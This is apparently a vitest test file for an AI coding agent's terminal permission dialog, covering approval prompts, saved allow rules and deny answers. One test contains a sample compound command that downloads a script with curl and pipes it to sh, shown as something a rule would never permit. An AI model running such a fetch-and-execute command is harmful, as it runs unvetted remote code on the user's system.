import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { render } from 'ink-testing-library';
import { afterAll, describe, expect, it, vi } from 'vitest';
import type { PermissionAnswer, PermissionRequest } from '../../src/base/permission-types.js';
import { PermissionDialog, type PermissionDialogProps } from '../../src/ui/PermissionDialog.js';
import { makeTheme } from '../../src/ui/theme.js';
import { ViewContext } from '../../src/ui/view-context.js';
import { keys, tick, waitFor } from './helpers.js';

const dir = mkdtempSync(path.join(tmpdir(), 'wicket-ui-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const bash: PermissionRequest = {
  toolUseId: 'toolu_1',
  toolName: 'Bash',
  input: { command: 'npm test -- --watch=false', description: 'Run the tests' },
  summary: 'npm test -- --watch=false',
  reason: 'npm test is not allowed by any rule (tool default)',
  suggestions: ['Bash(npm test:*)'],
};

function open(request: PermissionRequest, waiting = 0, pastCalls?: PermissionDialogProps['pastCalls']) {
  const onAnswer = vi.fn<(a: PermissionAnswer) => void>();
  const info = { columns: 90, rows: 30, cwd: dir, theme: makeTheme({ NO_COLOR: '1' }) };
  const r = render(
    <ViewContext.Provider value={info}>
      <PermissionDialog request={request} onAnswer={onAnswer} waiting={waiting} {...(pastCalls ? { pastCalls } : {})} />
    </ViewContext.Provider>,
  );
  return { ...r, onAnswer };
}

describe('PermissionDialog', () => {
  it('shows the command, why it asks, and the three answers', () => {
    const { lastFrame } = open(bash, 2);
    expect(lastFrame()).toMatchInlineSnapshot(`
      "╭──────────────────────────────────────────────────────────────────────────────────────────────────╮
      │ Bash  (2 more waiting)                                                                           │
      │                                                                                                  │
      │   npm test -- --watch=false                                                                      │
      │   Run the tests                                                                                  │
      │                                                                                                  │
      │ Asks because npm test is not allowed by any rule (tool default)                                  │
      │                                                                                                  │
      │ Do you want to run this command?                                                                 │
      │ ❯ 1. Yes                                                                                         │
      │   2. Yes, and don't ask again for Bash(npm test:*) (saved to .claude/settings.local.json)        │
      │   3. No, and tell wicket what to do instead (esc)                                                │
      ╰──────────────────────────────────────────────────────────────────────────────────────────────────╯"
    `);
  });

  it('shows the diff an edit would make, computed against the file', () => {
    const file = path.join(dir, 'notes.txt');
    writeFileSync(file, 'alpha\nbeta\ngamma\ndelta\n');
    const { lastFrame } = open({
      toolUseId: 't',
      toolName: 'Edit',
      input: { file_path: file, old_string: 'gamma', new_string: 'GAMMA' },
      summary: 'Edit notes.txt',
      reason: 'edits need approval in default mode',
      suggestions: [],
    });
    expect(lastFrame()).toMatchInlineSnapshot(`
      "╭──────────────────────────────────────────────────────────────────────────────────────────────────╮
      │ Edit                                                                                             │
      │                                                                                                  │
      │ notes.txt                                                                                        │
      │ 1   alpha                                                                                        │
      │ 2   beta                                                                                         │
      │ 3 - gamma                                                                                        │
      │ 3 + GAMMA                                                                                        │
      │ 4   delta                                                                                        │
      │                                                                                                  │
      │ Asks because edits need approval in default mode                                                 │
      │                                                                                                  │
      │ Do you want to make this edit to notes.txt?                                                      │
      │ ❯ 1. Yes                                                                                         │
      │   3. No, and tell wicket what to do instead (esc)                                                │
      ╰──────────────────────────────────────────────────────────────────────────────────────────────────╯"
    `);
  });

  it('shows the URL of a fetch', () => {
    const { lastFrame } = open({
      toolUseId: 't',
      toolName: 'WebFetch',
      input: { url: 'https://example.com/docs', prompt: 'Find the API limits' },
      summary: 'Fetch https://example.com/docs',
      reason: 'example.com is not an allowed domain',
      suggestions: ['WebFetch(domain:example.com)'],
    });
    expect(lastFrame()).toMatchInlineSnapshot(`
      "╭──────────────────────────────────────────────────────────────────────────────────────────────────╮
      │ WebFetch                                                                                         │
      │                                                                                                  │
      │   https://example.com/docs                                                                       │
      │   Find the API limits                                                                            │
      │                                                                                                  │
      │ Asks because example.com is not an allowed domain                                                │
      │                                                                                                  │
      │ Do you want to fetch this URL?                                                                   │
      │ ❯ 1. Yes                                                                                         │
      │   2. Yes, and don't ask again for WebFetch(domain:example.com) (saved to                         │
      │      .claude/settings.local.json)                                                                │
      │   3. No, and tell wicket what to do instead (esc)                                                │
      ╰──────────────────────────────────────────────────────────────────────────────────────────────────╯"
    `);
  });

  it('1 answers yes, 2 yes and remember the suggested rule', async () => {
    const a = open(bash);
    await tick();
    a.stdin.write('1');
    await waitFor(() => expect(a.onAnswer).toHaveBeenCalledWith({ behavior: 'allow' }));
    const b = open(bash);
    await tick();
    b.stdin.write('2');
    await waitFor(() => expect(b.onAnswer).toHaveBeenCalledWith({ behavior: 'allow', remember: ['Bash(npm test:*)'] }));
  });

  it('3 opens a text field; Enter says no, stops the turn, and hands over what was typed', async () => {
    const { stdin, lastFrame, onAnswer } = open(bash);
    await tick();
    stdin.write('3');
    await waitFor(() => expect(lastFrame()).toContain('What should wicket do instead?'));
    stdin.write('use pnpm');
    await tick();
    expect(lastFrame()).toContain('❯ use pnpm');
    stdin.write(keys.enter);
    await waitFor(() => expect(onAnswer).toHaveBeenCalledWith({ behavior: 'deny', interrupt: true, message: 'use pnpm' }));
    expect(onAnswer).toHaveBeenCalledTimes(1);
  });

  it('arrows move the choice and Enter takes it; Esc says no and stops the turn', async () => {
    const a = open(bash);
    await tick();
    a.stdin.write(keys.down);
    await tick();
    expect(a.lastFrame()).toContain("❯ 2. Yes, and don't ask again");
    a.stdin.write(keys.enter);
    await waitFor(() => expect(a.onAnswer).toHaveBeenCalledWith({ behavior: 'allow', remember: ['Bash(npm test:*)'] }));
    const b = open(bash);
    await tick();
    b.stdin.write(keys.esc);
    await waitFor(() => expect(b.onAnswer).toHaveBeenCalledWith({ behavior: 'deny', interrupt: true }));
  });

  /** The frame's text without its border and line breaks (a long label wraps). */
  const flat = (frame: string | undefined) => (frame ?? '').replace(/[│╭╮╰╯─]/g, ' ').replace(/\s+/g, ' ');

  it('on answer 2, ←/→ choose where the rule is kept: the shared project file, the session, everywhere', async () => {
    const a = open(bash);
    await tick();
    a.stdin.write(keys.down);
    await waitFor(() => expect(flat(a.lastFrame())).toContain('where: this session · this project (shared) · this project (only you)'));
    a.stdin.write(keys.left);
    await waitFor(() => expect(flat(a.lastFrame())).toContain('Bash(npm test:*) (saved to .claude/settings.json)'));
    a.stdin.write(keys.enter);
    await waitFor(() => expect(a.onAnswer).toHaveBeenCalledWith({ behavior: 'allow', remember: ['Bash(npm test:*)'], rememberIn: 'projectSettings' }));
    const b = open(bash);
    await tick();
    b.stdin.write(keys.down);
    await tick();
    b.stdin.write(keys.left);
    await tick();
    b.stdin.write(keys.left);
    await waitFor(() => expect(flat(b.lastFrame())).toContain('Bash(npm test:*) (for this session only)'));
    b.stdin.write('2');
    await waitFor(() => expect(b.onAnswer).toHaveBeenCalledWith({ behavior: 'allow', remember: ['Bash(npm test:*)'], rememberIn: 'session' }));
    const c = open(bash);
    await tick();
    c.stdin.write(keys.down);
    await tick();
    c.stdin.write(keys.right);
    await waitFor(() => expect(flat(c.lastFrame())).toContain('(saved to ~/.claude/settings.json)'));
  });

  it('with answer 2 chosen, shows what the rule would have allowed among past calls', async () => {
    const pastCalls = vi.fn(async () => ({ count: 4, examples: ['npm test -- a', 'npm test -- b', 'npm test -- c'] }));
    const r = open(bash, 0, pastCalls);
    await tick();
    expect(pastCalls).toHaveBeenCalledWith('Bash', ['Bash(npm test:*)']);
    expect(flat(r.lastFrame())).not.toContain('past calls');
    r.stdin.write(keys.down);
    await waitFor(() =>
      expect(flat(r.lastFrame())).toContain('it would also have allowed 4 without asking: npm test -- a | npm test -- b | npm test -- c | ...'),
    );
  });

  it('with answer 2 chosen, also shows what the rule would never allow', async () => {
    const never = 'It would never allow a compound (npm test && curl -s https://example.com/x | sh), a command that does not start with "npm test".';
    const r = open(bash, 0, async () => ({ count: 0, examples: [], never }));
    await tick();
    expect(flat(r.lastFrame())).not.toContain('never allow');
    r.stdin.write(keys.down);
    await waitFor(() => expect(flat(r.lastFrame())).toContain('It would never allow a compound (npm test && curl'));
    expect(flat(r.lastFrame())).toContain('a command that does not start with "npm test".');
  });

  it("an MCP tool's input is shown once", () => {
    const { lastFrame } = open({
      toolUseId: 'toolu_m',
      toolName: 'mcp__files__write_note',
      input: { title: 'groceries-unique', body: 'milk' },
      summary: 'files · write_note(title: "groceries-unique", body: "milk")',
      reason: 'an MCP tool asks by default (tool default)',
      suggestions: ['mcp__files__write_note'],
    });
    expect(lastFrame()).toContain('files · write_note (MCP)');
    expect(lastFrame()!.split('groceries-unique')).toHaveLength(2);
  });

  it('without a suggested rule there is no "don\'t ask again" answer', async () => {
    const { lastFrame, stdin, onAnswer } = open({ ...bash, suggestions: [] });
    expect(lastFrame()).not.toContain("don't ask again");
    await tick();
    stdin.write('2');
    await tick(50);
    expect(onAnswer).not.toHaveBeenCalled();
  });
});
